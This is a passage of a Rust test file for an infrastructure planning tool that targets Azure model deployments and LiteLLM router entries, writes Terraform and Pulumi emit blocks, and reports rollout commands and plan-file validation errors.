    EmitBlock {
        path: path.into(),
        format: format.into(),
        describes: describes(format),
        written: true,
    }
}

fn file(path: &str, emit: &str) -> ArtifactChange {
    ArtifactChange {
        path: path.into(),
        action: ArtifactAction::Update,
        before_sha256: Some(sha256(b"old")),
        after_sha256: Some(sha256(b"new")),
        lines_removed: 1,
        lines_added: 1,
        diff: String::new(),
        content: Some("new".into()),
        note: None,
        emit: Some(emit.into()),
    }
}

fn router(name: &str) -> Resource {
    resource(
        Kind::RouterDeployment,
        "router.chat",
        name,
        &[("weight", json!(1))],
    )
}

#[test]
fn a_target_writes_the_emit_blocks_it_needs_whole_and_marks_what_comes_with_them() {
    let desired = vec![
        deployment("a", 10, "Standard"),
        deployment("b", 5, "Standard"),
        router("a"),
    ];
    let full = || {
        let mut p = plan_of(&desired, None);
        p.emits = vec![
            emit("gen/tf", "terraform"),
            emit("gen/router.yaml", "litellm"),
        ];
        p.artifact_changes = vec![
            file("gen/tf/azure.tf", "gen/tf"),
            file("gen/tf/outputs.tf", "gen/tf"),
            file("gen/router.yaml", "gen/router.yaml"),
        ];
        p
    };
    // The router entry alone: only the router configuration is written.
    let target: Address = "router.chat.deployment.a".parse().expect("address");
    let mut p = full();
    target::limit(
        &mut p,
        std::slice::from_ref(&target),
        &[target.to_string()]
            .into_iter()
            .collect::<std::collections::HashSet<_>>(),
    );
    assert_eq!(
        actions(&p),
        vec![("router.chat.deployment.a".into(), Action::Create)]
    );
    assert_eq!(p.artifact_changes.len(), 1);
    assert_eq!(p.artifact_changes[0].path, "gen/router.yaml");
    assert_eq!(
        p.emits.iter().map(|e| e.written).collect::<Vec<_>>(),
        vec![false, true]
    );
    assert_eq!(p.targets, vec!["router.chat.deployment.a".to_string()]);
    let text = human(&p, false);
    assert!(
        text.starts_with("Warning: Resource targeting is in effect"),
        "{text}"
    );
    assert!(text.contains("Not written by this plan: gen/tf."), "{text}");
    assert_eq!(json(&p)["targets"], json!(["router.chat.deployment.a"]));
    // One deployment: the Terraform block is written whole, with the other deployment.
    let target: Address = "azure.corp.deployment.a".parse().expect("address");
    let mut p = full();
    target::limit(
        &mut p,
        std::slice::from_ref(&target),
        &[target.to_string()]
            .into_iter()
            .collect::<std::collections::HashSet<_>>(),
    );
    let got = actions(&p);
    assert_eq!(got.len(), 2, "{got:?}");
    let b = p
        .resource_changes
        .iter()
        .find(|c| c.address == "azure.corp.deployment.b")
        .expect("b comes with the block");
    assert_eq!(b.written_with.as_deref(), Some("gen/tf"));
    assert!(p
        .resource_changes
        .iter()
        .all(|c| c.kind != "router_deployment"));
    assert_eq!(
        p.artifact_changes
            .iter()
            .map(|a| a.path.as_str())
            .collect::<Vec<_>>(),
        vec!["gen/tf/azure.tf", "gen/tf/outputs.tf"]
    );
    assert!(human(&p, false).contains("written with the targets because gen/tf describes it too"));
}

#[test]
fn a_partial_plan_keeps_what_it_does_not_cover() {
    let before = vec![deployment("a", 10, "Standard"), router("a")];
    let mut prior = applied(&before);
    prior.artifacts.insert(
        "gen/tf/azure.tf".into(),
        ArtifactRecord {
            emit: Some("gen/tf".into()),
            ..ArtifactRecord::of(b"old")
        },
    );
    prior.emits.insert(
        "gen/tf".into(),
        meridian_state::EmitRecord {
            format: "terraform".into(),
            describes: describes("terraform"),
        },
    );
    // The spec changes both; only the router entry is targeted.
    let mut changed_router = router("a");
    changed_router.attrs.insert("weight".into(), json!(2));
    let desired = vec![deployment("a", 20, "Standard"), changed_router];
    let mut p = plan_of(&desired, Some(&prior));
    p.emits = vec![
        emit("gen/tf", "terraform"),
        emit("gen/router.yaml", "litellm"),
    ];
    p.artifact_changes = vec![
        file("gen/tf/azure.tf", "gen/tf"),
        file("gen/router.yaml", "gen/router.yaml"),
    ];
    let target: Address = "router.chat.deployment.a".parse().expect("address");
    target::limit(
        &mut p,
        std::slice::from_ref(&target),
        &[target.to_string()]
            .into_iter()
            .collect::<std::collections::HashSet<_>>(),
    );
    let next = p
        .next_state(Some(&prior), "0.1.0", &Observations::default())
        .expect("serial");
    assert_eq!(
        next.resource("azure.corp.deployment.a")
            .expect("a")
            .attributes["sku_capacity"],
        json!(10),
        "not covered: as recorded"
    );
    assert_eq!(
        next.resource("router.chat.deployment.a")
            .expect("router")
            .attributes["weight"],
        json!(2)
    );
    assert_eq!(
        next.artifacts["gen/tf/azure.tf"],
        prior.artifacts["gen/tf/azure.tf"]
    );
    assert_eq!(
        next.artifacts["gen/router.yaml"].emit.as_deref(),
        Some("gen/router.yaml")
    );
    assert!(next.emits.contains_key("gen/tf") && next.emits.contains_key("gen/router.yaml"));
}

// --- outputs and the apply report ------------------------------------------------------------

#[test]
fn outputs_say_what_callers_reach_per_model_and_tier() {
    let account = resource(
        Kind::AzureAccount,
        "azure.corp",
        "swedencentral",
        &[("custom_subdomain_name", json!("corp-sweden"))],
    );
    let mut d = deployment("chat-aoai", 10, "Standard");
    d.attrs.insert(
        "cognitive_account_id".into(),
        meridian_graph::reference(&account.address, "id"),
    );
    let entry = |target: &str, order: u64, serves: &str| {
        resource(
            Kind::RouterDeployment,
            "router.chat",
            target,
            &[
                ("model_group", json!("chat")),
                ("order", json!(order)),
                ("weight", json!(1)),
                ("cloud", json!("azure")),
                ("region", json!("swedencentral")),
                ("model", json!("gpt-5.1")),
                ("serves_with", json!(serves)),
            ],
        )
    };
    let mut state = applied(&[
        account,
        d,
        entry("aoai", 1, "azure.corp.deployment.chat-aoai"),
        entry("later", 2, "azure.corp.deployment.chat-aoai"),
    ]);
    state.emits.insert(
        "gen/router.yaml".into(),
        meridian_state::EmitRecord {
            format: "litellm".into(),
            describes: describes("litellm"),
        },
    );
    state.artifacts.insert(
        "gen/router.yaml".into(),
        ArtifactRecord {
            emit: Some("gen/router.yaml".into()),
            ..ArtifactRecord::of(b"x")
        },
    );
    let o = outputs::outputs(&state);
    let chat = &o.models.value["chat"];
    assert_eq!(chat.router_model, "chat");
    assert_eq!(
        chat.tiers.iter().map(|t| t.order).collect::<Vec<_>>(),
        vec![1, 2]
    );
    let t = &chat.tiers[0].targets[0];
    assert_eq!(t.target, "aoai");
    assert_eq!(t.deployment, "cloud-chat-aoai");
    assert_eq!(
        t.endpoint.as_deref(),
        Some("https://corp-sweden.openai.azure.com/")
    );
    assert_eq!(t.status, "pending-create");
    assert_eq!(
        o.artifacts.value[0].files,
        vec!["gen/router.yaml".to_string()]
    );
    let v = serde_json::to_value(&o).expect("json");
    assert_eq!(v["models"]["sensitive"], json!(false));
    assert_eq!(
        o.values().iter().map(|(n, _)| *n).collect::<Vec<_>>(),
        outputs::OUTPUT_NAMES
    );
}

#[test]
fn the_apply_report_says_what_was_written_and_what_rolls_it_out() {
    let mut plan = plan_of(&[deployment("a", 10, "Standard")], None);
    plan.emits = vec![
        emit("gen/tf", "terraform"),
        emit("gen/pulumi", "pulumi"),
        emit("gen/router.yaml", "litellm"),
    ];
    let mut noop = file("gen/pulumi/index.ts", "gen/pulumi");
    noop.action = ArtifactAction::NoOp;
    plan.artifact_changes = vec![
        file("gen/tf/azure.tf", "gen/tf"),
        ArtifactChange {
            action: ArtifactAction::Create,
            before_sha256: None,
            ..file("gen/router.yaml", "gen/router.yaml")
        },
        noop,
    ];
    let next = plan
        .next_state(None, "0.1.0", &Observations::default())
        .expect("serial");
    let report = applied::Applied::of(
        &plan,
        &next,
        Path::new("infra/.meridian/state.json"),
        Path::new("infra"),
    );
    assert!(!report.deployed);
    assert_eq!(report.pending_rollout, 1);
    let text = report.text();
    assert!(text.contains("nothing was deployed"), "{text}");
    assert!(
        text.contains("infra/gen/tf (terraform): 1 updated"),
        "{text}"
    );
    assert!(text.contains("    ~ infra/gen/tf/azure.tf"), "{text}");
    assert!(
        text.contains("infra/gen/router.yaml (litellm): 1 created"),
        "{text}"
    );
    assert!(
        text.contains("terraform -chdir=infra/gen/tf init && terraform -chdir=infra/gen/tf apply"),
        "{text}"
    );
    assert!(
        text.contains("litellm --config infra/gen/router.yaml"),
        "{text}"
    );
    // Pulumi's files did not change: no rollout is due there.
    assert!(!text.contains("pulumi up"), "{text}");
    assert!(
        text.contains("State: infra/.meridian/state.json (serial 1)."),
        "{text}"
    );
    let v = serde_json::to_value(&report).expect("json");
    assert_eq!(v["deployed"], json!(false));
    assert_eq!(
        v["emits"][1]["next_step"]["command"],
        json!("pulumi install --cwd infra/gen/pulumi && pulumi up --cwd infra/gen/pulumi")
    );
    assert_eq!(
        applied::next_step("terraform", "my dir", Path::new(".")).command,
        "terraform -chdir='my dir' init && terraform -chdir='my dir' apply"
    );
}

#[test]
fn a_plan_files_emit_blocks_and_targets_are_checked_too() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (plan, _) = well_formed(dir.path());
    let edit = |f: &dyn Fn(&mut Plan)| {
        let mut p = plan.clone();
        p.emits = vec![emit("gen", "terraform")];
        f(&mut p);
        PlanFile::new(p, "spec", "2026-11-25T00:00:00Z".into()).problems()
    };
    assert_eq!(edit(&|_| {}), Vec::<String>::new());
    let why = edit(&|p| p.emits[0].path = "../elsewhere".into());
    assert!(
        why[0].contains("the emit block \"../elsewhere\" is not a path inside"),
        "{why:?}"
    );
    let why = edit(&|p| p.emits[0].describes = vec!["router_deployment".into()]);
    assert!(
        why[0].contains("does not describe what a \"terraform\" block describes"),
        "{why:?}"
    );
    let why = edit(&|p| p.targets = vec!["not an address".into()]);
    assert!(why[0].contains("is not a resource address"), "{why:?}");
    let why = edit(&|p| p.resource_changes[0].written_with = Some("gen".into()));
    assert!(
        why[0].contains("is written with an emit block \"gen\" the plan does not write"),
        "{why:?}"
    );
    let why = edit(&|p| p.artifact_changes[0].emit = Some("other".into()));
    assert!(
        why[0].contains("belongs to an emit block \"other\" the plan does not list"),
        "{why:?}"
    );
}
